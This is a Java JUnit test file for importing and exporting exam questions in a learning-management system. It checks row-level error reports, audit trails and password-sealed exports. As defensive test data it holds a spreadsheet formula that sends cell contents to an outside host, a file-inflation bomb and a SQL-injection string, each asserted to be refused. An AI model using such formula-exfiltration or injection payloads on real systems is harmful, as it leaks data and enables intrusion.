package uz.artel.lms.exam.bank;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.persistence.EntityManager;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import uz.artel.lms.exam.bank.ItemReport.Outcome;
import uz.artel.lms.shared.Audit;
import uz.artel.lms.shared.BadInput;
import uz.artel.lms.shared.CentreId;
import uz.artel.lms.shared.Clock;
import uz.artel.lms.shared.PersonId;
import uz.artel.lms.shared.TestCaller;
import uz.artel.lms.shared.TestDatabase;
import uz.artel.lms.shared.access.CurrentCaller;
import uz.artel.lms.shared.access.Role;
import uz.artel.lms.shared.content.ContentPack;
import uz.artel.lms.shared.content.Problems;
import uz.artel.lms.shared.signing.SealedFile;
import uz.artel.lms.shared.table.PlantedWorkbook;
import uz.artel.lms.shared.table.TableSheet;

/** Items that come in from files and go out in files. */
class ItemExchangeStoreTest {

    @RegisterExtension
    static final TestDatabase database = new TestDatabase();

    private static final char[] PASSWORD = "a password of words".toCharArray();
    private static final List<String> COLUMNS = ItemTable.columns(2);

    private static <T> T with(Function<ItemExchange, T> work) {
        return TestCaller.as(
                TestCaller.of(new PersonId(7), new CentreId(1), Role.TRAINER),
                () -> database.tx(em -> work.apply(exchange(em))));
    }

    private static ItemExchange exchange(EntityManager em) {
        var caller = new CurrentCaller();
        return new ItemExchange(new EditedItems(em), new Clock(), caller, new Audit(em, new Clock(), caller));
    }

    private static void seed(String key, String pool, String category) {
        var item = """
                - key: %s
                  pool: %s
                  kind: numeric
                  category: %s
                  area: rules
                  competence: product
                  level: understand
                  difficulty: 4
                  facts: []
                  stem: {ru: Сколько %s, uz: Qancha, en: How much}
                  answer: 2400
                  explanation: {ru: Потому, uz: Chunki, en: Because}
                """.formatted(key, pool, category, key);
        var pack = new ContentPack(Map.of("questions/all.yaml", item.getBytes(StandardCharsets.UTF_8)));
        QuestionFiles.entries(pack, new Problems())
                .forEach(e -> database.run(em -> new EditedItems(em).save(e.by("p:7"), 0, new Clock().now())));
    }

    private static List<String> row(String key, String category, Map<String, String> changes) {
        var cells = new HashMap<String, String>(Map.of(
                "key",
                key,
                "pool",
                "exam",
                "kind",
                "single",
                "category",
                category,
                "area",
                "rules",
                "competence",
                "product",
                "level",
                "apply",
                "difficulty",
                "3",
                "right",
                "a"));
        for (var lang : List.of("ru", "uz", "en")) {
            var word = lang.equals("ru") ? "Слово " : "Word ";
            cells.put("stem_" + lang, word + key);
            cells.put("option_1_" + lang, word + "1");
            cells.put("option_2_" + lang, word + "2");
            cells.put("explanation_" + lang, word);
        }
        cells.putAll(changes);
        return COLUMNS.stream().map(c -> cells.getOrDefault(c, "")).toList();
    }

    private static int versions(String key) {
        return database.tx(em -> new EditedItems(em).versions(key)).size();
    }

    private static String told(ItemReport report) {
        return report.lines().stream()
                .map(l -> l.number() + " " + l.key() + " " + l.outcome()
                        + l.faults().stream()
                                .map(f -> " [" + f.place() + ": " + (f.key() == null ? f.sentence() : f.key()) + "]")
                                .collect(Collectors.joining()))
                .collect(Collectors.joining("\n"));
    }

    private static List<String> trail(String act) {
        return database.tx(em -> {
            List<?> rows = em.createNativeQuery(
                            "SELECT p.payload FROM audit_line a JOIN audit_payload p ON p.line_id = a.id"
                                    + " WHERE a.act = ? ORDER BY a.id")
                    .setParameter(1, act)
                    .getResultList();
            return rows.stream()
                    .map(p -> new String((byte[]) p, StandardCharsets.UTF_8))
                    .toList();
        });
    }

    @Test
    void good_rows_are_stored_as_drafts_of_whoever_brings_them_and_bad_ones_are_told_by_row_and_column() {
        seed("known-1", "exam", "cat-rows");
        var file = TableSheet.xlsx(
                "items",
                COLUMNS,
                List.of(
                        row("row-1", "cat-rows", Map.of()),
                        row("row-2", "cat-rows", Map.of("stem_uz", "", "facts", "nobody-said")),
                        row("row-3", "cat-rows", Map.of("right", "z")),
                        row("known-1", "cat-rows", Map.of()),
                        row("row-5", "cat-rows", Map.of("enemies", "row-1 row-2")),
                        row("row-1", "cat-rows", Map.of()),
                        row("row-7", "cat-rows", Map.of("level", "guess"))));
        var report = with(e -> e.bring(file, null));
        assertEquals("""
                2 row-1 NEW
                3 row-2 REFUSED [facts: problem.itemFact] [stem_uz: problem.required]
                4 row-3 REFUSED [right: problem.itemRight]
                5 known-1 REFUSED [kind: problem.itemKind]
                6 row-5 NEW
                7 row-1 REFUSED [key: problem.itemTwice]
                8 row-7 REFUSED [level: problem.itemOneOf]""", told(report));
        assertEquals(
                List.of(1, 0, 0, 1, 1, 0),
                List.of(
                        versions("row-1"),
                        versions("row-2"),
                        versions("row-3"),
                        versions("known-1"),
                        versions("row-5"),
                        versions("row-7")));
        var stored = database.tx(em -> new EditedItems(em).versions("row-1")).get(0);
        assertEquals(new ItemLife(ItemStatus.DRAFT, "p:7", null, null), stored.life());
        assertFalse(stored.shipped());
        assertEquals(
                List.of("row-5"),
                List.copyOf(database.tx(em -> new EditedItems(em).enemies()).get("row-1")));
        var lines = trail("item.import").size();
        var again = with(e -> e.bring(file, null));
        assertEquals(2, again.count(Outcome.SAME), told(again));
        assertEquals(0, again.count(Outcome.NEW) + again.count(Outcome.CHANGED));
        assertEquals(1, versions("row-1"));
        assertEquals(lines, trail("item.import").size(), "what changes nothing is no act");
    }

    @Test
    void an_xlsx_with_formulas_a_million_rows_or_a_bomb_is_refused_and_nothing_is_lost() {
        seed("safe-1", "exam", "cat-safe");
        var head = new StringBuilder("<row r=\"1\">");
        for (int i = 0; i < COLUMNS.size(); i++) {
            head.append(PlantedWorkbook.text(uz.artel.lms.shared.table.Table.letters(i) + "1", COLUMNS.get(i)));
        }
        head.append("</row>");
        var formulas = PlantedWorkbook.of(head + "<row r=\"2\">" + PlantedWorkbook.text("A2", "formula-1")
                + "<c r=\"B2\"><f>WEBSERVICE(\"http://x/\"&amp;C2)</f><v>1</v></c></row>");
        assertEquals("2 formula-1 REFUSED [pool: problem.formula]", told(with(e -> e.bring(formulas.bytes(), null))));
        var million = new StringBuilder(head);
        for (int row = 2; row <= 1_000_001; row++) {
            million.append("<row r=\"").append(row).append("\"><c><v>1</v></c></row>");
        }
        refused("rows", PlantedWorkbook.of(million.toString()).bytes());
        refused(
                "fileInflated",
                PlantedWorkbook.of(head + " ".repeat(40 * 1024 * 1024)).bytes());
        refused(
                "fileBroken",
                PlantedWorkbook.of("<row r=\"1\"><c r=\"ZZZZZZ1\"/></row>").bytes());
        refused(
                "columnUnknown",
                "key;pool;kind;category;area;competence;level;difficulty;stem_ru;colour\n1"
                        .getBytes(StandardCharsets.UTF_8));
        refused("columns", "key;pool\na;exam".getBytes(StandardCharsets.UTF_8));
        refused("fileLarge", new byte[ItemExchange.MAX_KB * 1024 + 1]);
        refused("fileEmpty", new byte[0]);
        assertEquals(0, versions("formula-1"));
        assertEquals(1, versions("safe-1"));
    }

    private static void refused(String problem, byte[] file) {
        var refusal = assertThrows(BadInput.class, () -> with(e -> e.bring(file, null)));
        assertEquals("problem." + problem, refusal.key());
    }

    @Test
    void a_content_file_goes_out_and_comes_in_again_and_its_refused_items_are_told_by_line() {
        seed("plain-1", "practice", "cat-plain");
        var out = with(e -> e.export(Pool.PRACTICE, "cat-plain", ItemExchange.Form.CONTENT, null));
        assertEquals("practice-items-cat-plain.yaml", out.name());
        var text = new String(out.bytes(), StandardCharsets.UTF_8);
        assertTrue(text.contains("key: plain-1"), text);
        assertEquals("1 plain-1 SAME", told(with(e -> e.bring(out.bytes(), null))));
        var more = text
                + text.replace("plain-1", "plain-2")
                + text.replace("plain-1", "plain-3").replace("uz: Qancha", "uz: ''");
        var report = with(e -> e.bring(more.getBytes(StandardCharsets.UTF_8), null));
        assertEquals(
                List.of(Outcome.SAME, Outcome.NEW, Outcome.REFUSED),
                report.lines().stream().map(ItemReport.Line::outcome).toList());
        assertEquals(0, versions("plain-3"));
        var changed = text.replace("Сколько", "Сколько же");
        assertEquals("1 plain-1 CHANGED", told(with(e -> e.bring(changed.getBytes(StandardCharsets.UTF_8), null))));
        assertEquals(2, versions("plain-1"));
        var broken = with(e -> e.bring("- key: a\n  stem: {\n".getBytes(StandardCharsets.UTF_8), null));
        assertEquals(1, broken.count(Outcome.REFUSED), told(broken));
    }

    @Test
    void exam_items_leave_only_sealed_and_the_trail_names_who_took_what_but_no_password() {
        seed("secret-1", "exam", "cat-secret");
        for (var form : ItemExchange.Form.values()) {
            for (var none : new char[][] {null, {}, "short".toCharArray()}) {
                var refusal =
                        assertThrows(BadInput.class, () -> with(e -> e.export(Pool.EXAM, "cat-secret", form, none)));
                assertEquals("password", refusal.field());
            }
        }
        assertEquals(
                List.of(),
                trail("item.export").stream()
                        .filter(t -> t.contains("cat-secret"))
                        .toList());
        var out = with(e -> e.export(Pool.EXAM, "cat-secret", ItemExchange.Form.WORKBOOK, PASSWORD));
        assertEquals("exam-items-cat-secret.xlsx.sealed", out.name());
        assertTrue(SealedFile.isOne(out.bytes()));
        assertFalse(new String(out.bytes(), StandardCharsets.ISO_8859_1).contains("secret-1"));
        var trail = trail("item.export").stream()
                .filter(t -> t.contains("cat-secret"))
                .toList();
        assertEquals(1, trail.size());
        assertTrue(trail.get(0).contains("keys=secret-1") && trail.get(0).contains("sha256="), trail.get(0));
        assertFalse(trail.get(0).contains(new String(PASSWORD)), trail.get(0));
        assertEquals("2 secret-1 SAME", told(with(e -> e.bring(out.bytes(), PASSWORD))));
        var wrong =
                assertThrows(BadInput.class, () -> with(e -> e.bring(out.bytes(), "another password".toCharArray())));
        assertEquals("problem.sealClosed", wrong.key());
        assertThrows(BadInput.class, () -> with(e -> e.bring(out.bytes(), null)));
    }

    @Test
    void the_template_can_be_filled_and_brought() {
        seed("rules-1", "practice", "rules");
        var template = with(ItemExchange::template);
        var report = with(e -> e.bring(template.bytes(), null));
        assertEquals(
                Stream.of(ItemKind.values()).filter(ItemKind::inWords).count(),
                report.count(Outcome.NEW),
                told(report));
    }

    @Test
    void an_unknown_category_or_an_empty_one_makes_no_file() {
        for (var category : List.of("nobody", "' OR 1=1", "Ё")) {
            var refusal = assertThrows(
                    BadInput.class,
                    () -> with(e -> e.export(Pool.PRACTICE, category, ItemExchange.Form.CONTENT, null)));
            assertEquals("category", refusal.field());
        }
    }
}
